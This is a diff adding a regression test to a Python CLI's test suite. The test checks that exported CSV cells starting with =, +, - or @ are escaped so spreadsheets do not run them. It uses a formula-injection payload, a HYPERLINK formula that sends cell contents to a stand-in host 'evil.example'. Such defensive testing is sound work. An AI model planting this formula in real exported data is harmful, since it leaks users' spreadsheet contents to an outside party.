@@ -6,7 +6,9 @@ import json
 import pytest
 from typer.testing import CliRunner
 
+import gepetto
 from gepetto.cli import app
+from gepetto.testing import sim
 
 SIM = ["--task", "sim", "--task-lm", "sim:task", "--reflection-lm", "sim:reflection"]
 
@@ -265,6 +267,33 @@ def test_export_rollouts_as_csv_and_json_lines(cli, done_run):
     lines = cli("export", "r1", "--rollouts", "--storage", "runs.sqlite").output.splitlines()
     assert [json.loads(line)["example_id"] for line in lines] == [r["example_id"] for r in rows]
     assert cli("export", "r1", "--rollouts", "--format", "xml", "--storage", "runs.sqlite").exit_code == 2
+
+
+def test_exported_csv_cells_are_never_spreadsheet_formulas(cli, tmp_path):
+    """Repro a20 (round 2): LM outputs and feedback that start with =, +, - or @ were written as they are, and a
+    spreadsheet runs them as formulas; such a cell starts with a ' now (the text after it unchanged)."""
+    import csv
+
+    task = sim.task(n_train=4, n_val=4, kinds=2)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+    def metric(e, o, tr):
+        s = task.metric(e, o, tr)
+        return gepetto.Score(s.value, f"{formula} {s.feedback}")
+
+    def program(c, e, ctx):
+        return "@SUM(1+2)" if e.id.endswith("-0") else ctx.lm("instruction", e.inputs["q"])
+
+    gepetto.optimize(task.seed_candidate, task.trainset, metric, valset=task.valset, program=program,
+                     task_lm="sim:task", reflection_lm="sim:reflection", budget=20, storage="csv.sqlite", run="r",
+                     progress=False)
+    assert cli("export", "r", "--rollouts", "-o", "r.csv", "--storage", "csv.sqlite").exit_code == 0
+    with open("r.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    cells = [c for row in rows for c in row.values() if c]
+    assert not [c for c in cells if c[0] in "=+-@"]
+    assert all(r["feedback"].startswith(f"'{formula} ") for r in rows)
+    assert any(r["output"] == "'@SUM(1+2)" for r in rows)
 
 
 def test_compare_shows_a_table_the_options_that_differ_and_a_chart(cli, done_run, tmp_path):
